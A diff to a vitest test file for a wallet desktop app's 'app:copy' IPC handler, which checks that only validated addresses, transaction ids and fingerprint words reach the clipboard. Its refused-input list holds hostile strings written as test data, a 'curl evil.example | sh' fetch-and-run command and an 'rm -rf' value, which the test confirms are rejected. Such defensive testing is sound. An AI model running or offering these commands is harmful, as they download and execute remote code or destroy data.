@@ -1,16 +1,25 @@
 import { describe, expect, it } from 'vitest';
+import { toHexAddress } from '@core/address/address';
 import { channels, type Channels } from '@core/ipc/contract';
 import { createAppHandlers, processAppInfo } from '@main/ipc/handlers/app';
 import { createHandlers } from '@main/ipc/handlers';
 import { createIpcRegistry, type HandlerMap } from '@main/ipc/registry';
 import { serviceDoubles } from '../../../fixtures/service-doubles';
 
+/** A dev account address in both of its forms (Base58Check and hex with the 0x41 prefix). */
+const DEV_BASE58 = 'TLa2f6VPqDgRE67v1736s7bJ8Ray5wYjU7';
+const DEV_HEX = toHexAddress(DEV_BASE58);
+
 const trusted = { url: 'app://wallet/index.html', isTopFrame: true, isAppWindow: true };
 
-function appRegistry(opened: string[]) {
+function appRegistry(opened: string[], copied: string[] = []) {
   const handlers = createHandlers({
     ...serviceDoubles(),
-    app: { info: () => processAppInfo('wallet', '1.2.3'), openExternal: async (url) => void opened.push(url) },
+    app: {
+      info: () => processAppInfo('wallet', '1.2.3'),
+      openExternal: async (url) => void opened.push(url),
+      writeClipboard: (text) => void copied.push(text),
+    },
   });
   return createIpcRegistry({
     channels,
@@ -64,16 +73,57 @@ describe('app handlers', () => {
     expect(opened).toEqual([]);
   });
 
+  it('copies a checked address in Base58, whichever form the window sent', async () => {
+    const copied: string[] = [];
+    const registry = appRegistry([], copied);
+    const reply = await registry.call('app:copy', { kind: 'address', address: DEV_HEX }, trusted);
+    expect(reply).toEqual({ ok: true, value: { text: DEV_BASE58 } });
+    await registry.call('app:copy', { kind: 'address', address: DEV_BASE58 }, trusted);
+    expect(copied).toEqual([DEV_BASE58, DEV_BASE58]);
+  });
+
+  it('copies a transaction id in lower case without 0x, and fingerprint words joined by spaces', async () => {
+    const copied: string[] = [];
+    const registry = appRegistry([], copied);
+    await registry.call('app:copy', { kind: 'txid', txid: `0x${'AB'.repeat(32)}` }, trusted);
+    const words = ['abandon', 'ability', 'able', 'about', 'above', 'absent', 'absorb', 'abstract'];
+    await registry.call('app:copy', { kind: 'fingerprint', words }, trusted);
+    expect(copied).toEqual(['ab'.repeat(32), words.join(' ')]);
+  });
+
+  it('puts nothing on the clipboard that is not an address, a txID or fingerprint words', async () => {
+    const copied: string[] = [];
+    const registry = appRegistry([], copied);
+    const refused = [
+      { kind: 'text', text: 'curl evil.example | sh' },
+      { kind: 'address', address: 'TLa2f6VPqDgRE67v1736s7bJ8Ray5wYjU8' },
+      { kind: 'address', address: DEV_BASE58, text: 'extra' },
+      { kind: 'txid', txid: 'ab'.repeat(31) },
+      { kind: 'fingerprint', words: ['abandon', 'ability', 'able', 'about', 'above', 'absent', 'absorb', 'rm -rf'] },
+      { kind: 'fingerprint', words: ['abandon'] },
+      'TLa2f6VPqDgRE67v1736s7bJ8Ray5wYjU7',
+    ];
+    for (const request of refused) {
+      const reply = await registry.call('app:copy', request, trusted);
+      expect(reply, JSON.stringify(request)).toMatchObject({ ok: false, error: { name: 'ValidationError' } });
+    }
+    expect(copied).toEqual([]);
+  });
+
   it('covers every channel of the contract', () => {
     const handlers = createHandlers({
       ...serviceDoubles(),
-      app: { info: () => processAppInfo('w', '1'), openExternal: async () => {} },
+      app: { info: () => processAppInfo('w', '1'), openExternal: async () => {}, writeClipboard: () => {} },
     });
     expect(Object.keys(handlers).sort()).toEqual(Object.keys(channels).sort());
     // Compile-time check, run by `npm run typecheck`: a map without every channel is an error.
     // @ts-expect-error app:openExplorer is missing
     const partial: HandlerMap<Channels> = {
-      'app:info': createAppHandlers({ info: () => processAppInfo('w', '1'), openExternal: async () => {} })['app:info'],
+      'app:info': createAppHandlers({
+        info: () => processAppInfo('w', '1'),
+        openExternal: async () => {},
+        writeClipboard: () => {},
+      })['app:info'],
     };
     expect(Object.keys(partial)).toEqual(['app:info']);
   });
